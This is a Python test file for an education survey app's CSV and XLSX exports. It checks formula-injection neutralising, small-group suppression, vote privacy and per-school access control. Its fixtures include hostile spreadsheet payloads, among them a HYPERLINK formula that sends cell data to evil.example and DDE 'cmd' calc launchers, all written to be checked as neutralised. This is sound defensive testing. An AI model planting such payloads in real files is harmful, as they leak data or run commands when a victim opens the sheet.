"""CSV and XLSX exports: formula injection neutralised, numbers kept numeric, staff answers only in aggregate."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from pl_core.cli import export as cli_export
from pl_core.cli import main as cli_main
from pl_core.domain import goals as g
from pl_core.frameworks import load_framework
from pl_core.present import export
from pl_core.services import exports, imports
from pl_core.services.access import LOCAL, PRINCIPAL, AccessDenied, Viewer
from pl_core.services.releases import republish_all
from pl_core.store import goals as goal_store
from pl_core.store import workshops as ws

FRAMEWORK_ID = "dps-driver-model"
ITEMS = ("relationships", "culture", "mindset")

# Every way a cell can start a formula, in every field a person types.
SCHOOL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
ROUND = "Fall 2026"
ROLE_BIG = "@SUM(1+1)*cmd|' /C calc'!A0"  # 7 people: shown
ROLE_MID = "+Teachers"  # 6 people: shown, unless it has to cover for the small group
ROLE_SMALL = "-Admins"  # 2 people: suppressed
GRADE_BANDS = ("\tK-2", "\r3-5", "\uff1dSUM(A1)")  # tab, carriage return, full-width =
RATIONALE = "=1+1"
EVIDENCE = "\uff20walkthroughs"  # full-width @
GOAL_TITLE = "=cmd|' /C calc'!A0"
GOAL_OWNER = "+Principal"
GOAL_STEP = "-step one"
MILESTONE = "@milestone"
STATEMENT = "\uff0bstatement"  # full-width +
HOSTILE = (SCHOOL, ROLE_BIG, ROLE_MID, ROLE_SMALL, *GRADE_BANDS, RATIONALE, EVIDENCE, GOAL_TITLE, GOAL_OWNER)
HOSTILE += (GOAL_STEP, MILESTONE, STATEMENT)


def parsed_upload(rows: list[dict], file_name: str = "staff.csv") -> SimpleNamespace:
    """A stand-in for pl_core.ingest's ParsedUpload, shaped as docs/architecture.md describes."""
    responses = pd.DataFrame(rows, columns=["respondent", "role", "grade_band", "item", "level"])
    responses["submitted_at"] = pd.NaT
    responses["source_row"] = range(2, len(responses) + 2)
    responses["level"] = responses["level"].astype("Int64")
    answered = int(responses["level"].notna().sum())
    report = SimpleNamespace(
        valid=True,
        file_name=file_name,
        file_hash=hashlib.sha256(repr(rows).encode()).hexdigest(),
        format="template-wide",
        rows_read=responses["respondent"].nunique(),
        respondents=responses["respondent"].nunique(),
        answers=answered,
        missing_answers=len(responses) - answered,
        superseded=0,
        errors=[],
        warnings=[],
        columns=[],
    )
    return SimpleNamespace(
        report=report, responses=responses, comments=pd.DataFrame(columns=["respondent", "column", "text"])
    )


def staff_rows() -> list[dict]:
    """15 staff: 7 in ROLE_BIG, 6 in ROLE_MID, 2 in ROLE_SMALL; levels chosen so each group has a known count."""
    people = [(ROLE_BIG, 3)] * 7 + [(ROLE_MID, 2)] * 6 + [(ROLE_SMALL, 4)] * 2
    rows = []
    for n, (role, level) in enumerate(people):
        for item in ITEMS:
            rows.append(
                {
                    "respondent": f"key-{n:02d}",
                    "role": role,
                    "grade_band": GRADE_BANDS[n % 3],
                    "item": item,
                    "level": None if (item == "mindset" and n == 0) else level,
                }
            )
    return rows


def seed(engine, school: str = SCHOOL, round: str = ROUND) -> None:
    """One school and round of staff answers, a closed workshop with a consensus, and a goal with a milestone."""
    framework = load_framework(FRAMEWORK_ID)
    imports.save_import(
        engine,
        LOCAL,
        parsed_upload(staff_rows()),
        school=school,
        round=round,
        framework=framework,
        district="=District",
    )
    workshop = ws.open_workshop(engine, school=school, round=round, framework=framework, items=list(ITEMS))
    for name, level in (("A", 2), ("B", 2.5), ("C", 3)):
        person = ws.join_workshop(engine, workshop.code, name).participant
        ws.submit_vote(engine, person.id, "culture", level, evidence="-my own note")
    ws.record_consensus(engine, workshop.id, "culture", 2.5, RATIONALE, EVIDENCE)
    ws.close_workshop(engine, workshop.id)
    goal_store.save_goal(
        engine,
        g.Goal(
            school=school,
            framework_id=FRAMEWORK_ID,
            item_id="culture",
            baseline_level=2.0,
            target_level=3.0,
            start_date=dt.date(2026, 9, 1),
            target_date=dt.date(2027, 6, 1),
            owner=GOAL_OWNER,
            title=GOAL_TITLE,
            steps=(GOAL_STEP,),
            milestones=(g.Milestone(dt.date(2026, 10, 1), MILESTONE),),
            statement=STATEMENT,
        ),
    )


@pytest.fixture
def dps():
    return load_framework(FRAMEWORK_ID)


@pytest.fixture
def seeded(engine):
    seed(engine)
    return engine


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def dangerous(text: str) -> bool:
    return text.startswith(export.FORMULA_STARTS) and not export._NUMBER.fullmatch(text)


# --- neutralising ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcalc", "'\tcalc"),
        ("\r=cmd", "'\r=cmd"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20A1", "'\uff20A1"),
        ("-inf", "'-inf"),
        ("-1.5", "-1.5"),  # text that is exactly a number cannot be a formula
        ("+3", "+3"),
        ("-2e3", "-2e3"),
        ("plain = text", "plain = text"),
        ("", ""),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_starts_and_leaves_numbers(value, expected):
    assert export.neutralise(value) == expected


def test_numbers_stay_numeric_in_csv_and_xlsx_while_formula_text_is_quoted():
    frame = pd.DataFrame({"delta": [-1.5, 2.0], "count": pd.array([-3, None], dtype="Int64"), "note": ["=1+1", "-1.5"]})
    rows = csv_cells(export.to_csv(frame))
    assert rows == [["delta", "count", "note"], ["-1.5", "-3", "'=1+1"], ["2.0", "", "-1.5"]]
    sheet = xlsx_sheet(export.to_xlsx(frame))
    delta, count, note = sheet["A2"], sheet["B2"], sheet["C2"]
    assert (delta.value, delta.data_type) == (-1.5, "n")
    assert (count.value, count.data_type) == (-3, "n")
    assert (note.value, note.data_type) == ("'=1+1", "s")
    assert sheet["B3"].value is None
    assert (sheet["C3"].value, sheet["C3"].data_type) == ("-1.5", "s")


def test_xlsx_drops_control_characters_before_quoting_so_they_cannot_hide_a_formula():
    sheet = xlsx_sheet(export.to_xlsx(pd.DataFrame({"t": ["\x01=1+1", "ok\x07"]})))
    assert [sheet["A2"].value, sheet["A3"].value] == ["'=1+1", "ok"]
    assert sheet["A2"].data_type == "s"


# --- every export, hostile strings in every typed field ---------------------------------------------------------


@pytest.mark.parametrize("kind", exports.KINDS)
def test_no_export_cell_can_start_a_formula_and_hostile_text_arrives_quoted(seeded, dps, kind):
    table = exports.export_table(seeded, LOCAL, kind, dps, school=SCHOOL, round=None if kind == "goals" else ROUND)
    assert len(table) > 0
    cells = [c for row in csv_cells(export.write(table, "csv")) for c in row]
    assert [c for c in cells if dangerous(c)] == []
    sheet = xlsx_sheet(export.write(table, "xlsx"))
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not dangerous(cell.value), (cell.coordinate, cell.value)
                values.append(cell.value)
    assert "'" + SCHOOL in cells and "'" + SCHOOL in values
    expected = {
        "scores": set(),
        "responses": {ROLE_BIG, ROLE_MID, ROLE_SMALL, *GRADE_BANDS},
        "district": {ROLE_BIG, ROLE_MID, ROLE_SMALL, *GRADE_BANDS},
        "votes": {RATIONALE, EVIDENCE},
        "goals": {GOAL_TITLE, GOAL_OWNER, GOAL_STEP, MILESTONE, STATEMENT},
    }[kind]
    # CSV keeps a carriage return as typed; openpyxl reads "\r" back as "\n"... so compare after quoting only.
    assert {"'" + h for h in expected} <= set(cells)
    assert {("'" + h).replace("\r", "\n") for h in expected} <= {v.replace("\r", "\n") for v in values}


def test_numeric_columns_stay_numeric_cells_in_the_xlsx(seeded, dps):
    sheet = xlsx_sheet(export.write(exports.district_table(seeded, LOCAL, dps), "xlsx"))
    header = [c.value for c in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert first["breakdown"].value == "all"
    for name in ("n", "missing", "mean", "sd", "stage", "agreement", "count_1", "count_3"):
        assert first[name].data_type == "n", name
    assert first["suppressed"].data_type == "b"
    assert first["n"].value == 15 and first["count_3"].value == 7


# --- what each export holds -------------------------------------------------------------------------------------


def test_scores_export_is_whole_school_item_scores_with_stage_labels(seeded, dps):
    table = exports.scores_table(seeded, LOCAL, dps, school=SCHOOL, round=ROUND)
    assert list(table["item"]) == list(ITEMS)
    culture = table.set_index("item").loc["culture"]
    assert (culture["n"], culture["count_2"], culture["count_3"], culture["count_4"]) == (15, 6, 7, 2)
    assert culture["mean"] == pytest.approx(round((6 * 2 + 7 * 3 + 2 * 4) / 15, 4))
    assert culture["stage"] == 3 and culture["stage_label"] == dps.item("culture").scale.label(3)
    mindset = table.set_index("item").loc["mindset"]
    assert (mindset["n"], mindset["missing"]) == (14, 1)


def test_responses_export_is_aggregate_and_hides_small_groups_and_their_complement(seeded, dps):
    table = exports.responses_table(seeded, LOCAL, dps, school=SCHOOL, round=ROUND)
    assert "respondent" not in table.columns and "level" not in table.columns
    culture = table[(table["item"] == "culture")].set_index(["breakdown", "group"])
    assert culture.loc[("all", "all"), "n"] == 15 and not culture.loc[("all", "all"), "suppressed"]
    assert culture.loc[("role", ROLE_BIG), ["n", "count_3"]].tolist() == [7, 7]
    # 2 admins are hidden; so is the next smallest role, or 15 - 7 - 6 would give the admins away.
    for hidden in (ROLE_SMALL, ROLE_MID):
        assert culture.loc[("role", hidden), "suppressed"]
        assert culture.loc[("role", hidden), ["n", "missing", "count_2", "count_4"]].isna().all()
    # Grade bands of 5 each are at the threshold and shown.
    bands = culture.loc["grade_band"]
    assert sorted(bands["n"].tolist()) == [5, 5, 5] and not bands["suppressed"].any()


def test_min_group_size_setting_drives_suppression(seeded, dps, monkeypatch):
    monkeypatch.setenv("PL_MIN_GROUP_SIZE", "6")
    republish_all(seeded)  # releases are decided under the threshold in force: deciding again applies the new one
    table = exports.responses_table(seeded, LOCAL, dps, school=SCHOOL, round=ROUND)
    bands = table[(table["item"] == "culture") & (table["breakdown"] == "grade_band")]
    assert bands["suppressed"].all() and bands["n"].isna().all()


def test_row_level_responses_are_pseudonymous_and_only_on_request(seeded, dps):
    rows = exports.export_table(seeded, LOCAL, "responses", dps, row_level=True)
    assert list(rows.columns) == ["framework", "school", "round", "respondent", "role", "grade_band", "item", "level"]
    assert len(rows) == 45 and rows["respondent"].str.startswith("key-").all()
    with pytest.raises(ValueError, match="responses export only"):
        exports.export_table(seeded, LOCAL, "votes", dps, row_level=True)


def test_district_export_has_a_row_per_school_round_item_and_group(seeded, dps):
    seed(seeded, school="Second School", round="Spring 2027")
    table = exports.district_table(seeded, LOCAL, dps)
    groups_per_item = 1 + 3 + 3  # whole school, three roles, three grade bands
    assert len(table) == 2 * len(ITEMS) * groups_per_item
    assert set(table["school"]) == {SCHOOL, "Second School"}
    whole = table[table["breakdown"] == "all"].set_index(["school", "item"])
    scores = exports.scores_table(seeded, LOCAL, dps).set_index(["school", "item"])
    pd.testing.assert_series_equal(whole["mean"], scores["mean"], check_names=False)
    expected = ["n", "mean", "sd", "stage", "agreement", "count_1", "count_4", "suppressed"]
    assert set(expected) <= set(table.columns)
    assert set(table["breakdown"]) == {"all", "role", "grade_band"}


def test_votes_export_gives_counts_per_level_and_consensus_but_not_who_voted(seeded, dps):
    table = exports.votes_table(seeded, LOCAL, dps, school=SCHOOL, round=ROUND)
    culture = table.set_index("item").loc["culture"]
    assert (culture["voters"], culture["votes_2"], culture["votes_2.5"], culture["votes_3"]) == (3, 1, 1, 1)
    assert (culture["consensus"], culture["rationale"], culture["evidence"]) == (2.5, RATIONALE, EVIDENCE)
    text = export.write(table, "csv").decode("utf-8-sig")
    assert "my own note" not in text  # a participant's private evidence note
    assert not {"participant", "name", "voter"} & set(table.columns)


def test_goals_export_has_one_row_per_milestone_with_status(seeded, dps):
    table = exports.goals_table(seeded, LOCAL, dps, school=SCHOOL, today=dt.date(2026, 11, 1))
    assert len(table) == 1
    row = table.iloc[0]
    assert (row["title"], row["status"], row["progress"]) == (GOAL_TITLE, "active", "ahead")
    # Fall 2026 is dated 1 October: the plan says 2 + 30/273 by then, staff measured 41/15.
    assert row["latest_round"] == ROUND
    assert row["latest_measured"] == pytest.approx(41 / 15, abs=1e-4)
    assert row["latest_planned"] == pytest.approx(2 + 30 / 273, abs=1e-4)
    assert (row["milestone"], row["milestone_done"], row["milestone_state"]) == (MILESTONE, False, "overdue")
    assert row["target_date"] == dt.date(2027, 6, 1)


def test_empty_database_exports_headers_only(engine, dps):
    for kind in exports.KINDS:
        table = exports.export_table(engine, LOCAL, kind, dps)
        assert table.empty and len(table.columns) > 3
        assert len(csv_cells(export.write(table, "csv"))) == 1


def test_file_names_are_slugs():
    name = export.file_name("scores", "xlsx", "dps-driver-model", "Aspen Elementary", "Fall 2026")
    assert name == "pl-scores-dps-driver-model-aspen-elementary-fall-2026.xlsx"
    assert export.file_name("district", "csv", "dps-driver-model") == "pl-district-dps-driver-model.csv"


# --- the command line ---------------------------------------------------------------------------------------------


def test_cli_export_writes_xlsx_by_extension(seeded, db_url, tmp_path, capsys):
    out = tmp_path / "scores.xlsx"
    code = cli_main(["export", "scores", "--out", str(out), "--db", db_url, "--school", SCHOOL])
    assert code == 0, capsys.readouterr().err
    sheet = xlsx_sheet(out.read_bytes())
    assert sheet.max_row == 1 + len(ITEMS)
    assert sheet["B2"].value == "'" + SCHOOL
    assert f"wrote {len(ITEMS)} rows of scores" in capsys.readouterr().out


def test_cli_row_level_responses_csv(seeded, db_url, tmp_path):
    out = tmp_path / "answers.csv"
    assert cli_main(["export", "responses", "--row-level", "--out", str(out), "--db", db_url]) == 0
    rows = csv_cells(out.read_bytes())
    assert rows[0][3] == "respondent" and len(rows) == 1 + 45


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["export", "scores", "--out", "{tmp}/x.txt"], "name it .csv or .xlsx"),
        (["export", "votes", "--row-level", "--out", "{tmp}/x.csv"], "responses export only"),
        (["export", "scores", "--school", "Nowhere", "--out", "{tmp}/x.csv"], "no school 'Nowhere'"),
        (["export", "scores", "--round", "Winter 1999", "--out", "{tmp}/x.csv"], "no round 'Winter 1999'"),
        (["export", "goals", "--round", ROUND, "--out", "{tmp}/x.csv"], "goals span rounds"),
        (["export", "scores", "--out", "{tmp}/missing/x.csv"], "no folder"),
    ],
)
def test_cli_export_refuses_mistakes_with_status_2(db_url, tmp_path, capsys, argv, message):
    argv = [a.replace("{tmp}", str(tmp_path)) for a in argv]
    assert cli_main([*argv, "--db", db_url]) == 2
    assert message in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists() and not (tmp_path / "x.txt").exists()


# --- who may export what ------------------------------------------------------------------------------------------


def test_a_principal_exports_only_their_own_school(seeded, dps):
    seed(seeded, school="Second School", round="Spring 2027")
    principal = Viewer(email="p@district.org", role=PRINCIPAL, schools=frozenset({"Second School"}))
    for kind in ("scores", "responses", "votes", "goals", "district"):
        table = exports.export_table(seeded, principal, kind, dps)
        assert set(table["school"]) == {"Second School"}, kind
    with pytest.raises(AccessDenied):
        exports.export_table(seeded, principal, "scores", dps, school=SCHOOL)
    with pytest.raises(AccessDenied):
        exports.export_table(seeded, principal, "responses", dps, school="Second School", row_level=True)


def test_the_cli_offers_exactly_the_kinds_export_writes():
    assert cli_export.EXPORT_KINDS == exports.KINDS
